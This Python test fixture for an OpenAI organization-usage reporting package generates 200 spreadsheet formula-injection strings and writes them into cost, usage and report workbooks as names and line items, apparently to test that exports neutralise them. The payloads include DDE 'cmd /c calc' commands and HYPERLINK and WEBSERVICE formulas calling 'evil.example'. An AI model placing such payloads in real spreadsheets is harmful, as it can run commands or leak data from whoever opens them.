"""Workbooks of every kind, with texts that try to run wherever an organization's members choose a name."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

from openai_org_usage import OPERATIONS, NamedKey, NamedProject, NamedUser, Names
from openai_org_usage._generated import (
    CostsBucket,
    CostsResult,
    CostsResultAmount,
    UsageCompletionsBucket,
    UsageCompletionsResult,
)
from openai_org_usage.report import Report, render_workbook
from openai_org_usage.tables.columns import Column, Kind
from openai_org_usage.tables.workbook_rows import write_workbook_rows
from openai_org_usage.tables.writing import write_buckets
from tests.report.figures import TODAY, cost, report_of

_DAY = 86_400
_START = 1_793_491_200
_PAYLOADS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '=DDE("cmd";"/c calc";"x")',
    '=WEBSERVICE("https://evil.example")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\uff1d1+1",
)
_BEFORE = (
    *("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u3000"),
    *('"', '""', ";", "x;", "x\t", "x\n", "x\r\n", '";', "\u2028", "\x0b"),
)
INJECTIONS = tuple(before + payload for before in _BEFORE for payload in _PAYLOADS)
"""200 texts."""
_NUMBERED = tuple(enumerate(INJECTIONS))
NAMES = Names(
    projects={f"proj_{place}": NamedProject(id=f"proj_{place}", name=text) for place, text in _NUMBERED},
    users={
        f"user_{place}": NamedUser(id=f"user_{place}", name=text, email=text) for place, text in _NUMBERED
    },
    api_keys={
        f"key_{place}": NamedKey(id=f"key_{place}", name=text, owner_name=text) for place, text in _NUMBERED
    },
)


def hostile_costs() -> CostsBucket:
    """A day of costs, and of credits, in which each text stands in every place."""
    results = [
        CostsResult(
            object="organization.costs.result",
            amount=CostsResultAmount(value=Decimal(place - 50) / 7, currency="usd"),
            line_item=text,
            project_id=f"proj_{place}",
            api_key_id=f"key_{place}",
            user_id=text,
        )
        for place, text in _NUMBERED
    ]
    return CostsBucket(object="bucket", start_time=_START, end_time=_START + _DAY, results=results)


def write_hostile_workbooks(folder: Path) -> Iterator[Path]:
    """Of costs and usage with names, of rows as of keys and of SQL, of a report, and of one of nothing."""
    write_buckets([hostile_costs()], folder / "costs.xlsx", operation=OPERATIONS["costs"], names=NAMES)
    usage = OPERATIONS["completions"]
    write_buckets([_hostile_usage()], folder / "usage.xlsx", operation=usage, names=NAMES)
    with (folder / "rows.xlsx").open("wb") as stream:
        columns = [Column(head, Kind.TEXT, (), required=False) for head in INJECTIONS[:9]]
        write_workbook_rows(
            ([text] * len(columns) for text in INJECTIONS), stream, columns=columns, name="Rows"
        )
    (folder / "report.xlsx").write_bytes(render_workbook(_hostile_report()))
    (folder / "nothing.xlsx").write_bytes(render_workbook(report_of([])))
    yield from (folder / f"{name}.xlsx" for name in ("costs", "usage", "rows", "report", "nothing"))


def _hostile_usage() -> UsageCompletionsBucket:
    results = [
        UsageCompletionsResult(
            object="organization.usage.completions.result",
            input_tokens=place,
            output_tokens=2**40 + place,
            num_model_requests=1,
            model=text,
            project_id=f"proj_{place}",
            api_key_id=f"key_{place}",
            user_id=f"user_{place}",
        )
        for place, text in _NUMBERED
    ]
    return UsageCompletionsBucket(object="bucket", start_time=_START, end_time=_START + _DAY, results=results)


def _hostile_report() -> Report:
    """Of two currencies and credits; each text is a line item and the name of a project, a user and a key."""
    days = [TODAY - timedelta(days=number) for number in range(1, 61, 12)]
    by = {
        dimension: [
            cost(day, _amount(place, number), currency=currency, **{dimension: f"{kind}_{place}"})
            for number, day in enumerate(days)
            for place in range(len(INJECTIONS))
            for currency in ("usd", "eur")
        ]
        for dimension, kind in (("project_id", "proj"), ("user_id", "user"), ("api_key_id", "key"))
    }
    items = [
        cost(day, _amount(place, number), currency=currency, line_item=text)
        for number, day in enumerate(days)
        for place, text in _NUMBERED
        for currency in ("usd", "eur")
    ]
    return report_of(items, by=by, top=len(INJECTIONS)).with_names(NAMES)


def _amount(place: int, number: int) -> str:
    return str(Decimal(place - 50) / 7 * (number + 1))


__all__ = ["INJECTIONS", "NAMES", "hostile_costs", "write_hostile_workbooks"]
